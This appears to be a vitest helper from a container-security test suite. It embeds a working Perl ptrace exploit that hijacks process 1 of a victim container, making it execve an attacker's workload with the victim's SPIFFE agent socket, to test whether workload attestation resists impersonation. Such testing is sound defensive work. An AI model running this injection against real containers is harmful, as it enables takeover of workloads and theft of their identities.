import { existsSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { vi } from 'vitest'
import { running } from '../../../src/core/steps/resources.ts'
import type { AttackStage } from './stage.ts'

/**
 * A program (Perl is on every Debian) that takes over process 1 of its namespace by ptrace(2): it makes that process
 * execute `/proc/<own pid>/root/workload`, a program of the attacker's own image. x86-64 only.
 */
const script = `
use strict; use warnings;
my ($PTRACE, $WAIT4) = (101, 61);
my ($POKE, $CONT, $GETREGS, $SETREGS, $ATTACH, $DETACH) = (5, 7, 12, 13, 16, 17);
until (-e '/gate/go') { select undef, undef, undef, 0.02 }
syscall($PTRACE, $ATTACH, 1, 0, 0) == 0 or die "attach: $!";
waitpid(1, 0x40000000);
my $regs = "\\0" x 216;
syscall($PTRACE, $GETREGS, 1, 0, $regs) == 0 or die "getregs: $!";
my @r = unpack 'q27', $regs;
# The order of struct user_regs_struct: 10 rax, 12 rdx, 13 rsi, 14 rdi, 15 orig_rax, 16 rip, 19 rsp.
my $stack = ($r[19] - 4096) & ~15;
sub poke { my ($at, $bytes) = @_; syscall($PTRACE, $POKE, 1, $at, $_ ) == 0 && ($at += 8) or die "poke: $!" for unpack 'q*', $bytes . "\\0" x (-length($bytes) % 8) }
my $path = "/proc/$$/root/workload\\0";
my $address = "SPIFFE_ENDPOINT_SOCKET=unix:///spire-agent/api.sock\\0";
poke($stack, $path);
poke($stack + 64, $address);
poke($stack + 192, pack('q2', $stack, 0));
poke($stack + 208, pack('q2', $stack + 64, 0));
# It waits in a system call: the instruction for one lies just before.
@r[10, 12, 13, 14, 15, 16] = (59, $stack + 208, $stack + 192, $stack, -1, $r[16] - 2);
syscall($PTRACE, $SETREGS, 1, 0, pack('q27', @r)) == 0 or die "setregs: $!";
syscall($PTRACE, $CONT, 1, 0, 0);
waitpid(1, 0x40000000);
syscall($PTRACE, $DETACH, 1, 0, 0);
print "done\\n";
`

/** An unsigned container in the process namespace of another one. It waits for a command to end. */
export async function tracer(
  stage: AttackStage,
  victim: string,
): Promise<{ readonly id: string; readonly go: () => void; readonly end: () => Promise<void> }> {
  const gate = join(stage.session.resources.folders.runtime, crypto.randomUUID())
  mkdirSync(gate)
  writeFileSync(join(gate, 'script'), script)
  const system = ['/bin', '/lib', '/lib64', '/usr'].filter((folder) => existsSync(folder))
  const image = await stage.pushNew()
  const id = await stage.workloads.run(image.reference, {
    options: { Entrypoint: ['/usr/bin/perl', '/gate/script'], Env: ['PATH=/usr/bin:/bin'] },
    host: {
      PidMode: `container:${victim}`,
      Binds: [`${gate}:/gate`, ...system.map((folder) => `${folder}:${folder}:ro`)],
    },
  })
  const container = running(stage.session.resources, 'engine').docker.getContainer(id)
  return {
    id,
    go: () => writeFileSync(join(gate, 'go'), ''),
    end: async () => {
      const printed = async () => (await container.logs({ stdout: true, stderr: true })).toString('utf8')
      const done = async () => {
        const text = await printed()
        if (!text.includes('done')) throw new Error(`the attacker has not done it: ${text.slice(0, 300)}`)
      }
      await vi.waitFor(done, { timeout: 10_000, interval: 50 })
    },
  }
}
